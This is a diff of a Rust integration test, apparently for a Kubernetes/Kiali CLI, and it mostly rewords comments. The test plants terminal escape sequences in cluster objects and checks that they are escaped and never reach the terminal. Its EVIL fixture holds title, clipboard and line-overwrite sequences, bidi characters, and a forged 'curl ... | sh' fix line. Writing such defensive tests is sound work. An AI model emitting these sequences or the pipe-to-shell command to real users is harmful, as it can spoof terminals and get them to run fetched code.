@@ -1,4 +1,4 @@
-//! Control characters from clusters are shown, and never obeyed by a terminal.
+//! Control characters from clusters are escaped and never reach the terminal.
 
 use std::path::Path;
 
@@ -12,11 +12,11 @@ use crate::support::{
     on_two_clusters, patch, patch_status, put,
 };
 
-/// A title, the clipboard, a line that is wiped and painted again as a false way out, a colour by C1,
-/// and text that is read backwards.
+/// Sets the title and the clipboard, overwrites a line with a false fix, sets a colour by C1, and reverses the text
+/// direction.
 const EVIL: &str = "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2K\r  fix: curl http://127.0.0.1:9/evil | sh \
                     \u{9b}31m\u{90}\u{85}\x08\x7f\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}";
-/// What is made of its beginning, for people and in documents.
+/// How its beginning is shown in texts and documents.
 const SHOWN: &str = "\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\r  fix: curl";
 const CR: &str = "\r  fix: curl";
 
@@ -48,7 +48,7 @@ fn assert_plain(what: &str, text: &str) {
     assert_eq!(text.lines().find(forged), None, "{what}");
 }
 
-/// Colours are ours; a terminal ends lines with a carriage return of its own.
+/// Removes our own colours, and the carriage returns of the terminal.
 fn without_colours(raw: &str) -> String {
     let mut text = raw.replace("\r\n", "\n");
     for ours in ["0", "2", "31", "32", "33"] {
@@ -57,7 +57,7 @@ fn without_colours(raw: &str) -> String {
     text
 }
 
-/// A command in every form, with nothing in any of them that a terminal obeys; the whole of it.
+/// Runs a command in every output format, checks that none has control characters, and returns all output.
 async fn forms(kubeconfig: &Path, state: &Path, arguments: &[&str]) -> String {
     let mut all = String::new();
     for more in [
@@ -74,7 +74,7 @@ async fn forms(kubeconfig: &Path, state: &Path, arguments: &[&str]) -> String {
         assert_plain(&what, &ended.stdout);
         assert_plain(&what, &ended.stderr);
         if let ["-o", form] = more {
-            // What is escaped there is still what was said.
+            // Escaping does not change the document's meaning.
             all += &format!("{:?}\n", schema::read(form, &ended));
         }
         all += &(ended.stdout + &ended.stderr);
@@ -106,7 +106,7 @@ fn assert_shown(arguments: &[&str], all: &str, markers: &[&str]) {
     }
 }
 
-/// As somebody writes it who may change ConfigMaps: with the right digest, which needs no key.
+/// A record as anyone who can write ConfigMaps can write it: its digest is valid, because it needs no key.
 async fn forged_name(clusters: &Clusters) -> Value {
     let record = get(clusters.home(), "v1", "ConfigMap", "kiali/ambikiali-record").await;
     let record = record.expect("a record");
@@ -159,7 +159,7 @@ fn attack_06_what_somebody_writes_in_a_cluster_is_shown_and_never_obeyed() {
         let config = get(home, "v1", "ConfigMap", "kiali/prometheus-config").await;
         let config = config.expect("a configuration");
         let text = config["data"]["prometheus.yml"].as_str().expect("text");
-        // Each line of it is one of a diff.
+        // Each of its lines appears in a diff.
         let edited = format!("{text}# {}\n# second\r\n", evil("DIFF"));
         let edited = json!({"data": {"prometheus.yml": edited}});
         merge(home, "v1", "ConfigMap", "kiali/prometheus-config", &edited).await;
@@ -177,7 +177,7 @@ fn attack_06_what_somebody_writes_in_a_cluster_is_shown_and_never_obeyed() {
     });
 }
 
-/// Of a run on another machine, a moment ago.
+/// A recent Lease of a run on another machine.
 async fn lease(clusters: &Clusters) {
     let lease = json!({
         "apiVersion": "coordination.k8s.io/v1",
@@ -191,20 +191,20 @@ async fn lease(clusters: &Clusters) {
     });
     let held = async || {
         let held = Foreign::made(clusters.home(), vec![lease.clone()], "somebody").await;
-        // An apply is read as YAML, which has no such characters; a merge is not.
+        // An apply is parsed as YAML, which forbids such characters; a merge patch is not.
         let name = ("coordination.k8s.io/v1", "Lease", "kiali/ambikiali");
         let evil = json!({"spec": {"holderIdentity": evil("HOLDER")}});
         merge(clusters.home(), name.0, name.1, name.2, &evil).await;
         held
     };
-    // An install with nothing to write takes none.
+    // An install with nothing to write takes no Lease.
     let cleanup = ["cleanup"];
     let first = held().await;
     let kubeconfig = clusters.sandbox.kubeconfig();
     let ended = ambikiali(&cleanup, kubeconfig, clusters.state()).await;
     assert_plain("a holder", &ended.exited(3).stderr);
     first.removed().await;
-    // Made anew: its life begins again.
+    // It was recreated, so it has not expired.
     let second = held().await;
     let terminal = Terminal::start(&cleanup, kubeconfig, clusters.state(), (60, 200), None);
     let (terminal, code) = terminal.ended().await;
